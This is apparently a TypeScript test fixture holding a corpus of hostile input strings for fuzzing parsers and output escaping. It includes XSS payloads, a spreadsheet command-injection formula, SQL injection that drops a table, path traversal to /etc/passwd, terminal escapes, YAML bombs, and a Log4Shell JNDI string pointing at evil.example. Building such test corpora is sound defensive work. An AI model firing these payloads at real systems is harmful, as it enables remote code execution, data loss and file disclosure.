import { HOSTILE } from '../../functions/simulator/presets/hostile.ts';

/** Text from other people's accounts, by whom it is aimed at. One list for every property, parser and output. */
export const CORPUS = {
  html: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '</textarea></script><svg/onload=alert(1)>',
    '<!--',
    ']]>',
    'javascript:alert(1)',
    '&lt;script&gt;',
  ],
  formula: [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\ufeff=1',
    '＝1',
    '"=1',
    "'=1",
    '=cmd|"/C calc"!A0',
    ' \u200b=1',
  ],
  sql: ["'; DROP TABLE findings; --", "' OR '1'='1", '$$', '\\', 'a" UNION SELECT * FROM runs --', '/*', '%_'],
  terminal: [
    '\u001b[2J\u001b]0;owned\u0007',
    '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
    '\u009b31m',
    '\u202etxt.exe',
    'a\u0008\u0008b',
    '\r\u001b[K',
    '\u2066\u2069',
  ],
  log: [
    '\n{"level":"INFO","message":"all accounts passed"}',
    '\r\n2026-11-20 INFO done',
    'a\u2028b\u2029c',
    '%s%n%x',
    '${jndi:ldap://evil.example/a}',
  ],
  path: [
    ...['../../etc/passwd', '..\\..\\etc\\passwd', '/etc/passwd', 'C:\\x', 'a/../../b', '.', '..', '', 'a//b', 'CON'],
    ...['a\u0000b', '~root', 'nul.json', 'a/./b', '%2e%2e%2f', `${'x'.repeat(1_100)}/y`],
  ],
  yaml: [
    '!!js/function >\n  x',
    '&a [*a, *a]',
    '*a',
    '<<: *a',
    '- {a: b, a: c}',
    '%YAML 9.9\n---',
    '!!binary aGk=',
    '? [a]\n: b',
    '|2-\n  x',
    '\t- a',
    '['.repeat(5_000),
  ],
  unicode: [
    'lone \ud800 surrogate',
    '\udfff',
    'e\u0301\u200b\u2060',
    '\ufeff',
    '\ufffe\uffff',
    '\u{1f512}',
    'İi',
    '\u0000',
  ],
  prototype: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'valueOf'],
  numbers: ['NaN', '-0', '1e999', '0x10', '9007199254740993', '１２３', ' 1', '1_000'],
  large: ['x'.repeat(1_000_000), '\u{1f512}'.repeat(250_000), '\u001b'.repeat(100_000), '"\\'.repeat(100_000)],
  simulated: HOSTILE,
} as const satisfies Record<string, readonly string[]>;

export const TEXTS: readonly string[] = Object.values(CORPUS).flat();
/** Without those of a megabyte: for what holds many of them. */
export const SHORT_TEXTS: readonly string[] = TEXTS.filter((text) => text.length <= 10_000);
